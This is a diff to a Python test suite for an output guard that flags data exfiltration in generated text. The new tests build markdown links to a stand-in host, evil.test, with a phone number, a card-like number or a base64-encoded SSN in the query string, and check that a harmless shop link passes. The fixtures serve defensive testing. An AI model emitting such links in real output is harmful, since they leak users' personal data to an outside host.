@@ -262,3 +262,9 @@ def test_gfm_www_autolink_with_data() -> None:
     assert exfil("details at www.evil.test/c?d=" + "QWxpY2UgU1NOIDUzNi0yMi0xOTQ3" + " ok") == [
         "guard.output.exfil_bare"
     ]
+
+
+def test_short_pii_in_query_is_data() -> None:
+    assert exfil("[x](https://evil.test/?p=%2B1-202-555-0143)") == ["guard.output.exfil_link"]
+    assert exfil("[x](https://evil.test/?c=4111111111111111)") == ["guard.output.exfil_link"]
+    assert exfil("[x](https://shop.test/item?id=12345678)") == []
